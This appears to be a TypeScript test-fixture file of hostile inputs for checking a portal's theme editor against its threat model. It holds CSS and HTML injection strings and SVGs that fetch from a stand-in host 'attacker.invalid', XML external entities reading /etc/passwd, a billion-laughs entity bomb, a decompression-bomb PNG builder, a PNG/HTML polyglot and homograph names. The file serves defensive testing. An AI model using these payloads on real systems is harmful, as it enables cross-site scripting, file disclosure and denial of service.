// What somebody who may edit a theme could try in order to run, load or fake something on the portal (THREATS.md F4).
// The database tests hold it against the checks; the browser test renders what of it is accepted.
import { deflateSync } from 'node:zlib'

const away = 'https://attacker.invalid'

/** Texts that would be CSS, HTML, an address or a trick of writing, wherever they came to stand. */
export const payloads: readonly string[] = [
  `red;background:url(${away}/a)`,
  `url(${away}/b)`,
  `url("//attacker.invalid/c")`,
  'expression(alert(1))',
  '-moz-binding:url(evil.xml#x)',
  `</style><script src="${away}/d.js"></script>`,
  `</style><img src=x onerror="fetch('${away}/e')">`,
  `"><svg onload=fetch('${away}/f')>`,
  `@import '${away}/g.css';`,
  `}body{background:url(${away}/h)}`,
  `#fff}*{content:url(${away}/i)`,
  `#123456;--x:url(${away})`,
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  `\\75\\72\\6c(${away}/j)`,
  'var(--bhf-fg)',
  'env(x)',
  `image-set("${away}/k" 1x)`,
  `<link rel=stylesheet href=${away}/l.css>`,
  `<meta http-equiv=refresh content="0;url=${away}">`,
  '\u202egnp.exe',
  '\u200bAcme',
  'A\u0000cme',
  '{name',
  '{constructor.prototype}',
  '__proto__',
  '{{7*7}}',
]

/** Names that read as another: of scripts mixed, look-alikes, unseen and styled letters. */
export const homographs: readonly string[] = [
  'Аcme', // a Cyrillic A
  'асе', // Cyrillic throughout
  'Gооgle', // two Cyrillic o
  'Miсrosoft',
  'ΑΒΕ',
  'PayPаl Support',
  'Acme\u200b',
  'Acme\u202eemcA',
  'Ａｃｍｅ',
  '𝐀𝐜𝐦𝐞',
  'Acme\u00ad Inc',
  'A\u0301\u0302\u0303\u0304cme',
  ' Acme',
  'Acme  Inc',
  '<b>Acme</b>',
  '\u3164',
]

/** Names of real people's companies in their own scripts. */
export const honestNames: readonly string[] = [
  'Acme',
  'Acme Inc.',
  'Müller & Söhne GmbH',
  'Ærø Øl',
  'Яндекс Маркет',
  'Acme Москва',
  'Ελληνικά Ταχυδρομεία',
  '株式会社アクメ',
  'Acme 株式会社',
  'ソニー',
  '삼성전자',
  'שופרסל',
  'شركة أكمي',
  '7-Eleven',
  'भारतीय कंपनी',
]

const xml = (body: string, before = '') =>
  `<?xml version="1.0"?>${before}<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="40" height="40">${body}</svg>`

/** SVG files that would run or load something, or never end. */
export const hostileSvgs: Readonly<Record<string, string>> = {
  script: xml(`<script>fetch('${away}')</script>`),
  'script of another namespace': xml('<x:script xmlns:x="http://www.w3.org/2000/svg">1</x:script>'),
  'event handler': xml('<rect width="9" height="9" onclick="alert(1)"/>'),
  'image from elsewhere': xml(`<image href="${away}/a.png" width="9" height="9"/>`),
  'image from this disk': xml('<image xlink:href="file:///etc/passwd" width="9" height="9"/>'),
  'image beside it': xml('<image href="../../etc/passwd" width="9" height="9"/>'),
  'svg within a data address': xml('<image href="data:image/svg+xml;base64,PHN2Zy8+" width="9" height="9"/>'),
  'html inside': xml(
    '<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="https://attacker.invalid"/></foreignObject>',
  ),
  'style that imports': xml(`<style>@import url(${away}/a.css);</style><rect width="9" height="9"/>`),
  'fill from elsewhere': xml(`<rect width="9" height="9" fill="url(${away}/a#b)"/>`),
  'use from elsewhere': xml(`<use href="${away}/a.svg#b"/>`),
  'external entity': xml(
    '<text y="9">&x;</text>',
    '<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
  ),
  'external subset': xml('<rect/>', `<!DOCTYPE svg SYSTEM "${away}/evil.dtd" [ ]>`),
  'billion laughs': xml(
    '<text y="9">&f;</text>',
    `<!DOCTYPE svg [<!ENTITY a "lollollol">${['b', 'c', 'd', 'e', 'f'].map((name, at) => `<!ENTITY ${name} "${`&${'abcde'[at]};`.repeat(40)}">`).join('')}]>`,
  ),
  'stylesheet instruction': `<?xml version="1.0"?><?xml-stylesheet href="${away}/a.css"?>${xml('<rect/>').slice(21)}`,
  animation: xml('<a href="#"><set attributeName="href" to="javascript:alert(1)"/><text>x</text></a>'),
  'another encoding': xml('<rect/>').replace('version="1.0"', 'version="1.0" encoding="UTF-7"'),
}

const crcTable = Array.from({ length: 256 }, (_, n) => {
  let c = n
  for (let k = 0; k < 8; k++) c = c & 1 ? 0xedb88320 ^ (c >>> 1) : c >>> 1
  return c >>> 0
})
const crc = (bytes: Buffer) =>
  (bytes.reduce((sum, byte) => (crcTable[(sum ^ byte) & 255] ?? 0) ^ (sum >>> 8), 0xffffffff) ^
    0xffffffff) >>>
  0

function chunk(type: string, data: Buffer): Buffer {
  const named = Buffer.concat([Buffer.from(type, 'latin1'), data])
  const [length, sum] = [Buffer.alloc(4), Buffer.alloc(4)]
  length.writeUInt32BE(data.length)
  sum.writeUInt32BE(crc(named))
  return Buffer.concat([length, named, sum])
}

/** A PNG of one bit per pixel that claims to be this large and compresses to almost nothing. */
export function pngOf(side: number): Buffer {
  const header = Buffer.alloc(13)
  header.writeUInt32BE(side, 0)
  header.writeUInt32BE(side, 4)
  header.set([1, 0, 0, 0, 0], 8)
  const rows = deflateSync(Buffer.alloc((Math.ceil(side / 8) + 1) * side), { level: 9 })
  return Buffer.concat([
    Buffer.from('\x89PNG\r\n\x1a\n', 'latin1'),
    chunk('IHDR', header),
    chunk('IDAT', rows),
    chunk('IEND', Buffer.alloc(0)),
  ])
}

/** A picture with a page behind it. */
export const polyglot = (): Buffer =>
  Buffer.concat([pngOf(16), Buffer.from(`<html><script src="${away}/p.js"></script></html>`)])
